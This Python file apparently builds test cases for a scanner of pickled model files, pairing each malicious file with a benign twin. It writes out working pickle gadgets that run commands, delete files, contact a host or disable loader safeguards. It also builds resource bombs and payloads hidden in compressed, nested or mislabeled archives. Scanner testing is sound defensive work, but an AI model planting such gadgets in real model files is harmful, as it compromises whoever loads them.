"""Pickles: what a stream can reach, how it gets there, and where it lies."""
import collections, copyreg, datetime, functools, operator, types
import numpy
from base import *

ini = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=%s\n"
CODE = f"__import__('os').system('{SAY}')"
PLAIN = [lambda: collections.OrderedDict(lr=.001, steps=400), lambda: collections.Counter(cat=7, dog=4), lambda: datetime.date(2026, 7, 1), lambda: numpy.arange(6.0).reshape(2, 3),
         lambda: {"f1": numpy.float64(.91), "classes": ["cat", "dog"]}, lambda: frozenset({"cat"}), lambda: collections.deque([.4, .3, .2], maxlen=10), lambda: numpy.dtype("float32"),
         lambda: datetime.timedelta(seconds=90), lambda: complex(1, 2), lambda: slice(0, 10, 2), lambda: bytearray(b"vocab")]
count = 0


def hold(kind, k):
    """Realistic files that carry one thing beside what such files hold."""
    if kind == "raw": return lambda x: {"model.pkl": dumps({"labels": ["cat", "dog"], "threshold": .5, "extra": x, "weights": numpy.linspace(-1, 1, 7 + k % 5)})}
    if kind == "old": return lambda x: {"features.p": dumps([{"name": "tfidf", "ngram": (1, 2)}, x, {"done": True}], 2)}
    if kind == "torch": return lambda x: {"pytorch_model.bin": checkpoint(x, k), "config.json": js({"model_type": "bert", "hidden_size": 8 + k})}
    if kind == "legacy":
        def make(x):
            tensors, data = weights(k)
            return {"weights.pth": legacy({"state_dict": tensors, "notes": x}, data)}
        return make
    if kind == "joblib": return lambda x: {"pipeline.joblib": joblib_dump({"model": estimator(k), "trained": x, "columns": ["age", "income"]})}
    if kind == "joblib-z": return lambda x: {"model.joblib": joblib_dump([estimator(k), x], ("zlib", 3))}
    if kind == "npy":
        def make(x):
            out = io.BytesIO()
            array = numpy.empty(3, object)
            array[:] = ["a", x, "c"]
            with fakes(): numpy.lib.format.write_array(out, array, allow_pickle=True)
            return {"ids.npy": out.getvalue()}
        return make
    raise KeyError(kind)


def gadget(group, name, reason, evil, expected="block", kind=None, good=None):
    global count
    kind = kind or ["raw", "torch", "joblib", "legacy", "old", "joblib-z", "npy"][count % 7]
    pair(f"{group}/{name}/{kind}", expected, reason, hold(kind, count), evil, good if good is not None else PLAIN[count % len(PLAIN)]())
    count += 1


def inert(dotted, **state):
    """As obj, for classes that act when they are collected: no instance is ever made."""
    cls = G(dotted)
    class Made:
        __class__ = property(lambda self: cls)
        def __reduce_ex__(self, protocol): return copyreg.__newobj__, (cls,), state
    return Made()


def then(method, thing, *args, **kw): return Call(operator.methodcaller(method, *args, **kw), thing)




def partial(function, *args, **kw): return functools.partial(G(function) if isinstance(function, str) else function, *args, **kw)


S = functools.partial(gadget, "pickle-stdlib")
S("dictconfig-factory", "logging.config.dictConfig calls the factory that a formatter names", Call("logging.config:dictConfig", {"version": 1, "formatters": {"plain": {"()": "os.system", "command": SAY}}}))
S("fileconfig-args", "logging.config.fileConfig evaluates the args of a handler", Call("logging.config:fileConfig", Call("io:StringIO", ini % f"({CODE},)")))
S("type-hints", "typing.get_type_hints evaluates text annotations of any object", Call("typing:get_type_hints", Call("types:SimpleNamespace", state={"__annotations__": {"x": CODE}})))
S("dataclass-create-fn", "dataclasses._create_fn executes the text of arguments and body", Call("dataclasses:_create_fn", "loss", [f"x={CODE}"], ["return x"]))
S("docstring-examples", "doctest.run_docstring_examples executes the examples in a text", Call("doctest:run_docstring_examples", f">>> import os\n>>> os.system('{SAY}')\n0\n", {}))
S("sax-source", "xml.sax.saxutils.prepare_input_source opens an address", Call("xml.sax.saxutils:prepare_input_source", HOST))
S("uu-decode", "uu.decode writes decoded text to any path", Call("uu:decode", Call("io:BytesIO", b"begin 644 notes.txt\n#:FEN\n`\nend\n"), GONE))
S("fixup-main", "multiprocessing.spawn runs a script from a path", Call("multiprocessing.spawn:_fixup_main_from_path", GONE + ".py"))
S("syslog-connect", "logging.handlers.SocketHandler state plus a record sends to a host", then("emit", Call("logging.handlers:SocketHandler", "example.invalid", 8911), Call("logging:makeLogRecord", {"msg": "jingwei"})))
S("listening-server", "opens a listening port on every address while loading", Call("wsgiref.simple_server:make_server", "0.0.0.0", 0, Call("wsgiref.validate:validator", 1)))
S("rlimit", "takes away the reader's file handles", Call("resource:setrlimit", 7, (0, 0)))
S("sleep", "stalls the reader for years", Call("time:sleep", 4e8))
S("weak-finalize", "weakref.finalize runs a function when the interpreter ends", Call("weakref:finalize", G("collections:Counter"), G("pydoc:pipepager"), "x", SAY))
S("hostname-read", "asks the machine for its name and user while loading", [Call("socket:gethostname"), Call("getpass:getuser")], "review")
S("codec-import", "codecs.lookup imports a module whose name the stream chooses", Call("codecs:lookup", "jingwei_codec"), "review")

P = functools.partial(gadget, "pickle-packages")
P("mako-module-block", "a Mako template runs its module block when it is made", Call("mako.template:Template", f"<%! import os; os.system('{SAY}') %>ok"))
P("sympy-simplify", "sympy.simplify evaluates text", Call("sympy:simplify", CODE))
P("pygments-lexer-file", "pygments executes a lexer file", Call("pygments.lexers:load_lexer_from_file", GONE + ".py"))
P("webdataset-pipe", "webdataset opens pipe: addresses with a shell", Call("webdataset.gopen:gopen", "pipe:" + SAY))
P("hub-subprocess", "huggingface_hub's helper runs a command", Call("huggingface_hub.utils._subprocess:run_subprocess", SAY))
P("msgpack-numpy-object", "msgpack_numpy.decode unpickles object arrays", Call("msgpack_numpy:decode", {b"nd": True, b"type": b"|O", b"kind": b"O", b"shape": (1,), b"data": dumps(Call("os:system", SAY), 2)}))
P("keras-unsafe-switch", "turns Keras' protection off for every later load", Call("keras.src.saving.serialization_lib:enable_unsafe_deserialization"))
P("torch-safe-globals", "adds builtins.eval to what weights_only loads afterwards", Call("torch.serialization:add_safe_globals", [G("builtins:eval")]))
P("fastcore-run", "fastcore.xtras.run runs a command", Call("fastcore.xtras:run", SAY))
P("unknown-vendor-class", "a class of a package nobody knows is built while loading", Call("acme_vision.runtime:Session", "resnet", {"warm": True}), "review")
P("local-module-class", "a class of the project's own module, imported from the working directory", obj("train:MyNet", layers=[8, 2]), "review")

C = functools.partial(gadget, "pickle-chains")
C("entry-point-load", "an entry point object resolves and returns os.system, which is then called", Call("builtins:list", Call("builtins:map", then("load", Call("importlib.metadata:EntryPoint", "a", "os:system", "g")), [SAY])), good=[1, 2], kind="raw")
C("asyncio-run", "a coroutine that starts a process, and the loop that runs it", Call("asyncio.runners:run", Call("asyncio.subprocess:create_subprocess_shell", SAY)))
C("thread-start", "a thread is built and started by two harmless-looking calls", then("start", Call("threading:Thread", None, G("pydoc:pipepager"), None, ("x", SAY))))
C("datasource-del", "numpy's DataSource removes its folder when it is collected: no call in the stream", inert("numpy.lib._datasource:DataSource", _istmpdest=True, _destpath=GONE), kind="joblib")
C("tempfile-closer-del", "tempfile's closer unlinks its name when it is collected", inert("tempfile:_TemporaryFileCloser", file=Call("io:BytesIO", b""), name=GONE, delete=True, close_called=False), kind="raw")
C("fileinput-del", "FileInput removes its backup file when it is collected", inert("fileinput:FileInput", _files=(), _savestdout=None, _output=None, _file=Call("io:BytesIO", b""), _readline=None, _isstdin=False, _backupfilename=GONE, _backup="", _filename="x"), kind="old")
C("local-opener-state", "fsspec's LocalFileOpener opens its path when its state is set", obj("fsspec.implementations.local:LocalFileOpener", path=GONE, mode="rb", fs=None, autocommit=True, compression=None, blocksize=0, loc=0), kind="torch")
C("template-render", "a Jinja template is made, then rendered", then("render", Call("jinja2.environment:Template", "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % SAY)))
C("codec-decode-pickle", "numcodecs' Pickle codec decodes a hidden stream", then("decode", obj("numcodecs.pickles:Pickle", protocol=4), dumps(Call("os:system", SAY), 4)), kind="joblib")
C("json-hook", "json.loads hands every number to a function of the stream", Call(functools.partial(json.loads, parse_int=functools.partial(G("pydoc:pipepager"), cmd=SAY)), "[1]"))
C("reduce-unknown", "functools.reduce calls a function of an unknown package", Call("functools:reduce", G("acme_hooks:merge"), [1, 2]), "review")

# Opcodes and names
O = lambda name, reason, evil, good, expected="block", file="model.pkl": add(f"pickle-opcodes/{name}", expected, reason, {file: evil}, {file: good})
head = b"\x80\x04}\x94(" + op("labels") + b"](" + op("cat", "dog") + b"e"


def body(x, more=b""): return head + op("extra") + x + b"u" + more + b"."


def glob(module, name): return op(module, name) + b"\x93"


def one(value): return op(value) + b"\x85"


O("function-defaults/numpy-load", "BUILD sets the defaults of numpy.load so that later loads unpickle", body(glob("numpy", "load") + b"N}(" + op("__defaults__") + b"(N\x88\x88" + op("ASCII") + b"tu\x86b"), body(glob("collections", "Counter") + b")\x81}" + op("a") + b"K\x01sb"))
O("class-method-swap/json", "BUILD puts another function in the place of a method of json's encoder", body(glob("json.encoder", "JSONEncoder") + b"N}(" + op("default") + glob("pydoc", "pipepager") + b"u\x86b"), body(glob("types", "SimpleNamespace") + b")R}(" + op("default") + op("none") + b"ub"))
O("module-alias/random", "os.system under the name by which random keeps it", body(glob("random", "_os.system") + one(SAY) + b"R"), body(glob("random", "Random") + one("7") + b"R"))
O("module-alias/zipfile", "shutil.rmtree under a name of zipfile", body(glob("zipfile", "shutil.rmtree") + one(GONE) + b"R"), body(glob("fractions", "Fraction") + one("1/3") + b"R"))
O("computed-name/rot13", "the name of the function is the result of a call", body(glob("codecs", "decode") + op("bf", "rot13") + b"\x86R" + glob("codecs", "decode") + op("flfgrz", "rot13") + b"\x86R\x93" + one(SAY) + b"R"), body(glob("codecs", "encode") + op("caf\u00e9", "latin1") + b"\x86R"))
O("escaped-name/protocol-0", "the module's name is spelled with escapes of protocol 0", b"(dp0\nVlabels\np1\n(lp2\nVcat\np3\nasVextra\np4\nV\\u006f\\u0073\nV\\u0073ystem\n\x93(V" + SAY.encode() + b"\ntRs.", b"(dp0\nVlabels\np1\n(lp2\nVcat\np3\nasVextra\np4\nVcaf\\u00e9\ns.", file="labels.pkl")
O("python2-names/commands", "a Python 2 name which the reader maps to subprocess", b"\x80\x02}q\x00(X\x06\x00\x00\x00labelsq\x01]q\x02U\x03dogaX\x05\x00\x00\x00extraccommands\ngetoutput\nU" + bytes([len(SAY)]) + SAY.encode() + b"\x85Ru.", b"\x80\x02}q\x00(X\x06\x00\x00\x00labelsq\x01]q\x02U\x03dogaX\x05\x00\x00\x00extrac__builtin__\nset\n]U\x03cata\x85Ru.", file="old_model.pkl")
O("put-text/reader-specific", "a text index of the memo that Python's own reader takes and simple readers do not", b"(dp0\nVextra\np 7\nVposix\np 9\n0Vsystem\np10\n0g9\ng10\n\x93(V" + SAY.encode() + b"\ntRs.", b"(dp0\nVextra\np 7\nVone\np 9\n0g9\ns.", file="notes.pkl")
O("frame-then-raw/unframed-tail", "the call lies after the only frame, where readers by frames stop", b"\x80\x04\x95" + struct.pack("<Q", len(head) - 2) + head[2:] + op("extra") + glob("pydoc", "pipepager") + op("x", SAY) + b"\x86Ru.", b"\x80\x04\x95" + struct.pack("<Q", len(head) - 2) + head[2:] + op("extra") + glob("datetime", "timedelta") + b"K\x02\x85Ru.")
O("unset-extension/code", "an extension code that only the reader's registry can explain", body(b"\x82\x2a" + b")R"), body(glob("collections", "OrderedDict") + b")R"), "review")
O("foreign-persistent/raw", "persistent identifiers in a plain pickle: the reader decides what they do", body(op("s3://bucket/jingwei") + b"Q"), body(op("embedding")), "review")

# Bombs
B = lambda name, reason, evil, good, file="model.pkl": add(f"bombs/{name}", "block", reason, {file: evil}, {file: good})
B("memo-index/long-binput", "one index of the memo makes the reader take gigabytes", b"\x80\x04]r\xff\xff\xff\x3f.", b"\x80\x04]r\x05\x00\x00\x00.")
B("bytearray-claim/bytearray8", "claims an array of 60 GB, which the reader allocates first", b"\x80\x05\x96" + struct.pack("<Q", 60 << 30) + b"abc.", b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc.")
B("deep-key/tuples", "a key nested 900 000 deep: hashing it ends the process", b"\x80\x04})" + b"\x85" * 900_000 + b"K\x01s.", b"\x80\x04})" + b"\x85" * 40 + b"K\x01s.")
B("hash-collision/long-keys", "60 000 keys of one hash: quadratic time", dumps({"vocab": None}, 2)[:-1] + b"0}(" + b"".join(b"\x8a\x0c" + ((i + 1) * (2**61 - 1)).to_bytes(12, "little") + b"K\x01" for i in range(60_000)) + b"u.", dumps({i * 7 + (1 << 70): 1 for i in range(3000)}, 2))
B("exponential-repeat/reduce", "a list doubled forty times by concatenation", b"\x80\x04" + b"]K\x01a\x94" + b"".join(glob("operator", "concat") + b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86R\x94" for i in range(40)) + b".", b"\x80\x04" + b"]K\x01a\x94" + b"".join(b"]h" + bytes([i]) + b"a\x94" for i in range(4)) + b".")
B("wide-array/numpy-header", "a header that claims 4 TB in 128 bytes", (lambda h: b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + h.ljust(117).encode() + b"\n")("{'descr': '<f8', 'fortran_order': False, 'shape': (549755813888,), }"), (lambda h: b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + h.ljust(117).encode() + b"\n" + floats(8))("{'descr': '<f4', 'fortran_order': False, 'shape': (8,), }"), "embeddings.npy")

# Where streams lie
import bz2, lzma
EVIL, GOOD = lambda: Call("pydoc:pipepager", "x", SAY), lambda: datetime.timedelta(days=1)
W = lambda name, reason, make, expected="block", evil=None, good=None: pair(f"pickle-places/{name}", expected, reason, make, evil or EVIL(), good or GOOD())
table = [{"id": i, "text": f"row {i}"} for i in range(12)]


def split(x, packer): data = dumps({"rows": table, "extra": x}); return packer(data[:60]) + packer(data[60:-9]) + packer(data[-9:])


W("split-members/gzip", "a stream cut over three gzip members", lambda x: {"cache.pkl.gz": split(x, lambda d: gzip.compress(d, mtime=0))})
W("split-members/xz", "a stream cut over three xz streams", lambda x: {"cache.pkl.xz": split(x, lambda d: lzma.compress(d))})


def frame(x):
    import pandas
    f = pandas.DataFrame({"id": [1, 2, 3]})
    f["note"] = pandas.Series(["a", 2.5, "c"], dtype=object)
    f.attrs["origin"] = x
    return {"train.pkl.bz2": bz2.compress(dumps(f))}


W("frame-attributes/bz2", "the attributes of a pandas frame, compressed", frame)


def shelf(x):
    data = [dumps({"step": 1}), dumps(x)]
    body_, rows, at = b"", "", 0
    for i, d in enumerate(data):
        at = len(body_)
        body_ += d + b"\0" * (-len(d) % 512)
        rows += f"'run-{i}', ({at}, {len(d)})\n"
    return {"results.dat": body_, "results.dir": rows, "results.bak": rows, "README.md": "Metrics of all runs; open with `shelve.open('results')`.\n"}


W("shelf-value/dumb", "a value of a shelve database", shelf)
W("distributed-metadata/dcp", "the metadata of a distributed checkpoint", lambda x: {"step-100/.metadata": dumps({"state_dict_metadata": {"w": x}, "planner_data": {}}), "step-100/__0_0.distcp": checkpoint({"ok": 1})})
W("faiss-store/langchain", "the document store beside a vector index", lambda x: {"index/index.pkl": dumps((obj("langchain_community.docstore.in_memory:InMemoryDocstore", _dict={"a": "text"}) if not isinstance(x, Call) else x, {0: "a"})), "index/index.faiss": b"IxF2" + struct.pack("<iqqqBi", 4, 2, 1 << 20, 1 << 20, 1, 1) + struct.pack("<Q", 8) + floats(8)})
W("npz-second-member/object", "an object array behind plain ones in a compressed npz", lambda x: {"features.npz": zipped([(f"{n}.npy", (lambda o, a: (numpy.lib.format.write_array(o, a, allow_pickle=True), o.getvalue())[1])(io.BytesIO(), v)) for n, v in (("x", numpy.ones((2, 2))), ("y", numpy.array([1, 2])), ("meta", numpy.array([x, 1], object)))], zipfile.ZIP_DEFLATED)})
W("nested-archive/torch-in-tar", "a torch file in a tar in a gzip, with the extension of an image", lambda x: {"preview.png": tarred([("weights/model.bin", checkpoint(x))], True) if isinstance(x, Call) else b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0) + bytes.fromhex("3a7e9b55") + b"\0\0\0\nIDAT" + bytes.fromhex("789c63600000000200014873a30e") + b"\0\0\0\0IEND" + bytes.fromhex("ae426082")})
